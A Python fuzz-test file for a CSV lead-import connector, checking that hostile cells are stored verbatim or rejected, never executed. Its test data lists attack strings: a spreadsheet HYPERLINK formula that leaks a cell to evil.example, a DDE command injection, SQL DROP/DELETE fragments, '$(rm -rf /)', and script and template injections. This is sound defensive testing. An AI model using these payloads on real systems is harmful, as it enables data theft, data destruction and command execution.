"""Hostile CSV files through connectors.files.import_file: never a crash, never executed, stored verbatim.

Hypothesis writes lead exports in random encodings, delimiters and line endings
whose cells are formula injections, SQL fragments, control characters, huge
fields, extreme dates and numbers. Whatever the file, the import either
reports (good rows stored, bad rows kept with their reason) or raises
FileImportError for a file it cannot use at all; the tables are all still
there, untouched except for this source's rows; and every text value stored is
the cell as written, trimmed — nothing evaluated, escaped or cut.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import itertools

import pandas as pd
import pytest
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st
from sqlalchemy import inspect

from connectors.files import FileImportError, Mapping, import_file
from data import journal, queries

AS_OF = dt.datetime(2026, 6, 30, 12, tzinfo=dt.UTC)
HEADERS = ["Id", "Created", "MQL", "Owner", "Channel", "Campaign", "Reason", "Segment", "Touches"]
MAPPING = Mapping(
    table="leads",
    name="hostile",
    columns={
        "external_id": "Id",
        "created_at": "Created",
        "mql_at": "MQL",
        "owner_external_id": "Owner",
        "channel": "Channel",
        "campaign": "Campaign",
        "rejection_reason": "Reason",
        "segment": "Segment",
        "touches": "Touches",
    },
)
TEXT_COLUMNS = {
    "Channel": "channel",
    "Campaign": "campaign",
    "Reason": "rejection_reason",
    "Segment": "segment",
}
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "'; DROP TABLE leads; --",
    "Robert'); DROP TABLE owners;--",
    '" OR "1"="1',
    "1; DELETE FROM leads WHERE 1=1",
    "$(rm -rf /)",
    "<script>alert(1)</script>",
    "{{7*7}}",
    "a\x00b",
    "\x1b[31mred\x1b[0m",
    "bell\x07",
    "line\nbreak",
    "\u202eevil.exe",
    "zero\u200bwidth",
    "😀 emoji",
    "NaN",
    "null",
    "n/a",
    "-",
    "",
    " ",
]
DATES = [
    "2026-01-15 09:30",
    "2025-12-31T23:59:59Z",
    "15/01/2026",
    "9999-12-31",
    "0001-01-01",
    "1677-09-21 00:12",
    "2262-04-12",
    "1969-12-31T23:59:59+14:00",
    "2026-02-30",
    "now()",
    "1e308",
    "",
]
NUMBERS = [
    "3",
    "0",
    "-1",
    "3000000000",
    "1e308",
    "-1e308",
    "inf",
    "NaN",
    "99999999999999999999999",
    "2.5",
    "1,000",
    "x",
    "",
]
text = st.text(st.characters(blacklist_categories=("Cs",)), max_size=30)
huge = st.sampled_from([300, 5_000, 40_000]).map(lambda n: "x" * n)  # past any column limit, and far past
cells = st.one_of(st.sampled_from(HOSTILE), text, huge)
ids = st.one_of(st.integers(0, 40).map(str), st.sampled_from(HOSTILE), text, st.just("k" * 300))
rows = st.lists(
    st.tuples(
        ids,
        st.sampled_from(DATES),
        st.sampled_from(DATES),
        cells,
        cells,
        cells,
        cells,
        cells,
        st.sampled_from(NUMBERS),
    ),  # fmt: skip
    min_size=1,
    max_size=12,
)
ENCODINGS = ["utf-8", "utf-8-sig", "utf-16", "cp1252"]
_sources = itertools.count()


def encode(table: list[list[str]], encoding: str, delimiter: str, newline: str) -> tuple[bytes, str]:
    """The CSV file's bytes, and the encoding actually used (cp1252 falls back to UTF-8 when it cannot hold a cell)."""
    buffer = io.StringIO()
    # csv quotes a cell holding a character of the line terminator; with "\n" lines a bare CR would go out
    # unquoted, which is not valid CSV (RFC 4180) and which readers, Accord's too, take as a line break
    bare_cr = any("\r" in cell for row in table for cell in row)
    quoting = csv.QUOTE_ALL if bare_cr else csv.QUOTE_MINIMAL
    csv.writer(buffer, delimiter=delimiter, lineterminator=newline, quoting=quoting).writerows(table)
    try:
        return buffer.getvalue().encode(encoding), encoding
    except UnicodeEncodeError:
        return buffer.getvalue().encode("utf-8"), "utf-8"


def state(engine) -> tuple[list[str], dict[str, int]]:
    return sorted(inspect(engine).get_table_names()), queries.table_counts(engine)


def normalised(value: str) -> str:
    # a CR inside a quoted cell is read back as a line break: the one change a CSV round trip may make
    return value.replace("\r\n", "\n").replace("\r", "\n")


# No shrinking: each example is a whole import, and shrinking one takes minutes on 2 cores; a failure is
# printed as found, and test_known_hostile_values below pins each bug found this way in a small example.
FUZZ = settings(max_examples=60, deadline=None, phases=(Phase.explicit, Phase.reuse, Phase.generate),
                suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow,
                                       HealthCheck.data_too_large])  # fmt: skip


@FUZZ
@given(
    rows=rows,
    encoding=st.sampled_from(ENCODINGS),
    delimiter=st.sampled_from([",", ";", "\t", "|"]),
    newline=st.sampled_from(["\r\n", "\n"]),
)
def test_hostile_cells_are_stored_verbatim_or_rejected(fuzz_engine, rows, encoding, delimiter, newline):
    source = f"hostile{next(_sources)}"
    data, used = encode([HEADERS, *map(list, rows)], encoding, delimiter, newline)
    tables_before, counts_before = state(fuzz_engine)
    try:
        report = import_file(fuzz_engine, data, "leads", MAPPING, source=source, as_of=AS_OF)
    except FileImportError as exc:
        assert str(exc)  # a file it cannot use at all: one message, nothing written
        assert state(fuzz_engine)[1]["leads"] == counts_before["leads"]
        return
    tables_after, counts_after = state(fuzz_engine)
    assert tables_after == tables_before
    for untouched in ("deals", "activities"):
        assert counts_after[untouched] == counts_before[untouched]
    assert report.read == len(rows)
    assert report.imported + report.updated + report.rejected + report.duplicates == report.read

    stored = queries.read_leads(fuzz_engine)
    stored = stored[stored["source"] == source].set_index("external_id")
    assert len(stored) == report.imported
    if used == "cp1252":
        try:
            data.decode("utf-8")
            return  # the same bytes are also valid UTF-8, which is how they are read: a different text
        except UnicodeDecodeError:
            pass
    written: dict[str, list[dict]] = {}
    for row in rows:
        written.setdefault(row[0].strip(), []).append(dict(zip(HEADERS, row, strict=True)))
    for external_id, lead in stored.iterrows():
        # the last good row of an id wins; which one was good is the importer's call, so any of them may be it
        matches = [
            row
            for row in written[external_id]
            if all(verbatim(lead[n], row[h]) for h, n in TEXT_COLUMNS.items())
        ]
        assert matches, (external_id, lead[list(TEXT_COLUMNS.values())].to_dict(), written[external_id])


def verbatim(value, cell: str) -> bool:
    """Whether a stored value is the cell as written, trimmed (a blank cell stored as missing)."""
    cell = normalised(cell)
    if pd.isna(value):
        return not cell.strip()
    return value == value.strip() and value in cell and value.strip() == cell.strip()


@settings(FUZZ, max_examples=40)
@given(st.binary(max_size=3_000), st.booleans())
def test_random_bytes_are_a_clear_error_or_rejected_rows(fuzz_engine, blob, with_header):
    source = f"bytes{next(_sources)}"
    if with_header:  # garbage under a good header line reaches the parser and the row checks
        blob = ",".join(HEADERS).encode() + b"\r\n" + blob
    tables_before, counts_before = state(fuzz_engine)
    try:
        report = import_file(fuzz_engine, blob, "leads", MAPPING, source=source, as_of=AS_OF)
    except FileImportError as exc:
        assert str(exc)
    else:
        assert report.imported + report.updated + report.rejected + report.duplicates == report.read
        stored = queries.read_leads(fuzz_engine)
        assert (stored["source"] == source).sum() == report.imported
    tables_after, counts_after = state(fuzz_engine)
    assert tables_after == tables_before
    assert counts_after["deals"] == counts_before["deals"]


GOOD = {"Id": "k1", "Created": "2026-01-15 09:30", "MQL": "2026-01-15 10:00", "Owner": "o1", "Channel": "Web",
        "Campaign": "Spring", "Reason": "", "Segment": "SMB", "Touches": "2"}  # fmt: skip


@pytest.mark.parametrize(
    ("cell", "value", "encoding"),
    [
        ("Touches", "3000000000", "utf-8"),  # past a 32-bit INTEGER column (PostgreSQL)
        ("Touches", "1e19", "utf-8"),  # past 64 bits: used to raise TypeError from pandas
        ("Touches", "99999999999999999999999", "utf-8"),
        (
            "Campaign",
            "a\x00b",
            "utf-16",
        ),  # UTF-16 files hold NUL bytes, so a NUL character gets past the reader
        ("Id", "k\x00", "utf-16"),
        ("Campaign", '=HYPERLINK("http://evil.example","x")', "cp1252"),
        ("Segment", "'; DROP TABLE leads; --", "utf-8"),
        (
            "Id",
            "k" * 300,
            "utf-8",
        ),  # too long for the column: rejected, and the reject must still be storable
    ],
)
def test_known_hostile_values(fuzz_engine, cell, value, encoding):
    """Values the fuzzers above found trouble with: each is stored verbatim or its row rejected, never a crash."""
    source = f"known{next(_sources)}"
    row = {**GOOD, cell: value}
    data, _ = encode([HEADERS, [row[h] for h in HEADERS]], encoding, ",", "\r\n")
    tables_before = state(fuzz_engine)[0]
    report = import_file(fuzz_engine, data, "leads", MAPPING, source=source, as_of=AS_OF)
    assert report.read == 1 and report.imported + report.rejected == 1
    assert state(fuzz_engine)[0] == tables_before
    stored = queries.read_leads(fuzz_engine)
    stored = stored[stored["source"] == source]
    if report.imported:
        lead = stored.iloc[0]
        column = {**TEXT_COLUMNS, "Id": "external_id", "Touches": "touches"}[cell]
        assert str(lead[column]) == value.strip()
    else:
        kept = journal.read_rejected_rows(fuzz_engine, source=source)
        assert len(kept) == 1 and cell in kept["reasons"].iloc[0]


@pytest.mark.parametrize("tail", [b'"', b'k1,"2026-01-15 09:30\r\n', b'k1,2026-01-15,,,,,,,1\r\n"unclosed'])
def test_an_unclosed_quote_is_a_clear_error_or_a_rejected_line(fuzz_engine, tail):
    """Found by test_random_bytes_...: pandas' ParserError must not escape from reading the headers."""
    data = ",".join(HEADERS).encode() + b"\r\n" + tail
    try:
        report = import_file(
            fuzz_engine, data, "leads", MAPPING, source=f"quote{next(_sources)}", as_of=AS_OF
        )
    except FileImportError as exc:
        assert "quote" in str(exc) or '"' in str(exc)
    else:
        assert report.rejected >= 1


@pytest.mark.parametrize("bad_line", [3, 7])
def test_a_mostly_utf8_file_with_a_cp1252_line_is_read_per_line_and_says_which(fuzz_engine, bad_line):
    # One line saved by an old tool used to turn the whole file into cp1252: "JÃ¼rgen MÃ¼ller" everywhere.
    source = f"mixed{next(_sources)}"
    lines = [",".join(HEADERS).encode()]
    for i in range(2, 10):
        row = dict(GOOD, Id=f"m{i}", Channel="Jürgen Müller", Campaign=f"Köln {i}")
        encoding = "cp1252" if i == bad_line else "utf-8"
        lines.append(",".join(row[h] for h in HEADERS).encode(encoding))
    report = import_file(
        fuzz_engine, b"\r\n".join(lines) + b"\r\n", "leads", MAPPING, source=source, as_of=AS_OF
    )
    stored = queries.read_leads(fuzz_engine)
    stored = stored[stored["source"] == source]
    assert report.imported == 8 and set(stored["channel"]) == {"Jürgen Müller"}
    assert set(stored["campaign"]) == {f"Köln {i}" for i in range(2, 10)}
    assert any(f"line {bad_line} is not UTF-8" in w and "Windows-1252" in w for w in report.warnings), (
        report.warnings
    )
    # a file that is Windows-1252 throughout is still read as such, with no such note
    whole = b"\r\n".join(
        [lines[0], *(line.decode("utf-8", "replace").encode("cp1252", "replace") for line in lines[1:])]
    )
    report = import_file(fuzz_engine, whole, "leads", MAPPING, source=source + "w", as_of=AS_OF)
    assert not any("not UTF-8" in w for w in report.warnings) and "cp1252" in report.format
